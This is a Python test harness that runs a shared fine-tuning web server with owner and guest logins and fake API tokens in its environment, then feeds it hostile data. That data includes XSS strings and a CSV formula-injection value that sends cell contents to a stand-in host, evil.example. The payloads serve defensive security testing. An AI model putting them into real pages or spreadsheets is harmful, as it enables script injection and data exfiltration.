"""A server that others can reach, over a workspace with hostile data in it, and clients that talk to it like browsers.

Texts, headers, labels and names hold markup and formulas; what must never come out has marks of its own.
"""

import csv
import json
import os
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import psutil

from core.runs.store import ENDED, open_store
from core.runs.supervisor import submit
from core.schema import RunSpec
from core.spec_files import parse_spec
from core.workspace import Workspace

PROJECT = Path(__file__).resolve().parents[1]
START_SECONDS = 180
OWNER, GUEST = ("ada", "owners-own-password-1"), ("eve", "guests-own-password-1")
MARKUP = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(document.cookie)</script>"
LABELS = (f"one {MARKUP}", f"two {SCRIPT}", "three \"'><b>")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TOKENS = {
    "HF_TOKEN": "hf_" + "SeCrEtSeCrEtSeCrEtSeCrEtSeCrEt",
    "WANDB_API_KEY": "0123456789abcdef0123456789abcdefdeadbeef",
    "MY_DATABASE_PASSWORD": "correct-horse-battery-staple",
}
"""In the server's environment, and so in those of its workers."""


def hostile_csv(path: Path, rows: int = 90) -> Path:
    """Three classes that a model can learn from their first words, with markup and formulas all over."""
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["text", f"label {SCRIPT}", f"note {MARKUP}"])
        for number in range(rows):
            words = ("Who wrote", "Where is", "How many people saw")[number % 3]
            writer.writerow([f"{words} {MARKUP} {number} {SCRIPT}?", LABELS[number % 3], FORMULA])
    return path


def hostile_spec(data: Path, model: Path, **training: Any) -> RunSpec:
    return parse_spec(
        {
            "name": f"run {SCRIPT}{MARKUP}",
            "data": {"train": {"path": str(data)}},
            "mapping": {"text": ["text"], "label": f"label {SCRIPT}"},
            "model": {"source": str(model), "max_length": 32},
            "training": {"max_steps": 4, "batch_size": 16, "learning_rate": 1e-3, **training},
        },
        "the test",
    )


@dataclass
class SharedServer:
    """`launch.py --listen` on loopback, with an owner, a guest, and secrets in its environment."""

    workspace: Workspace
    extra: tuple[str, ...] = ()
    environment: dict[str, str] = field(default_factory=dict)
    port: int = 0
    process: subprocess.Popen[bytes] | None = None
    log: Path = field(init=False)

    def __post_init__(self) -> None:
        self.log = self.workspace.root.parent / "server.log"
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> None:
        words = [
            "--no-venv", "--no-browser", "--listen", "127.0.0.1", "--port", str(self.port), "--workspace",
            str(self.workspace.root), "--auth", ":".join(OWNER), "--guest", ":".join(GUEST), *self.extra,
        ]  # fmt: skip
        environment = {**os.environ, **TOKENS, "HF_HUB_OFFLINE": "1", "CI": "1", **self.environment}
        with self.log.open("ab") as output:
            self.process = subprocess.Popen(
                [sys.executable, "launch.py", *words], cwd=PROJECT, env=environment, stdout=output, stderr=output
            )
        deadline = time.monotonic() + START_SECONDS
        while b"Tunedesk is at" not in self.log.read_bytes():
            assert self.process.poll() is None and time.monotonic() < deadline, self.log.read_text()
            time.sleep(0.2)

    def run_to_end(self, spec: RunSpec) -> str:
        """A run, trained by the server's own worker process. Returns its id."""
        run_id, store = submit(self.workspace, spec), open_store(self.workspace)
        while store.run(run_id).state not in ENDED:
            time.sleep(0.3)
        run = store.run(run_id)
        assert run.state == "finished", (run.reason, self.workspace.run(run_id).log.read_text()[-3000:])
        return run_id

    def close(self) -> None:
        assert self.process is not None
        children = psutil.Process(self.process.pid).children(recursive=True)
        self.process.send_signal(signal.SIGINT)
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
        for child in children:
            if child.is_running():
                child.kill()

    def client(self, who: tuple[str, str] | None = None) -> httpx.Client:
        """Like a browser: with the cookie of whoever logged in. None: a stranger."""
        client = httpx.Client(base_url=self.url, timeout=120)
        if who is not None:
            answer = client.post("/login", data={"name": who[0], "password": who[1]})
            assert answer.status_code == 303, answer.text
        return client


@dataclass(frozen=True)
class Said:
    """What came of an event."""

    done: bool
    data: list[Any]
    error: str


def events(
    client: httpx.Client, calls: list[tuple[int, list[Any]]], query: str = "", tab: str | None = None
) -> list[Said]:
    """Call functions of the page by number, as its script does: join the queue, then read the stream of events."""
    session = tab or os.urandom(6).hex()
    waiting: dict[str, int] = {}
    said: list[Said] = [Said(False, [], "not joined")] * len(calls)
    for place, (number, data) in enumerate(calls):
        body = {"data": data, "fn_index": number, "session_hash": session, "trigger_id": None}
        joined = client.post(f"/gradio_api/queue/join{query}", json=body)
        if joined.status_code == 200:
            waiting[joined.json()["event_id"]] = place
        else:
            said[place] = Said(False, [], f"{joined.status_code} {joined.text}")
    if not waiting:
        return said
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            message = json.loads(line.removeprefix("data: ")) if line.startswith("data: ") else {}
            if message.get("msg") == "process_completed" and message["event_id"] in waiting:
                output = message["output"]
                place = waiting.pop(message["event_id"])
                said[place] = Said(message["success"], output.get("data") or [], str(output.get("error") or ""))
            if not waiting:
                break
    return said
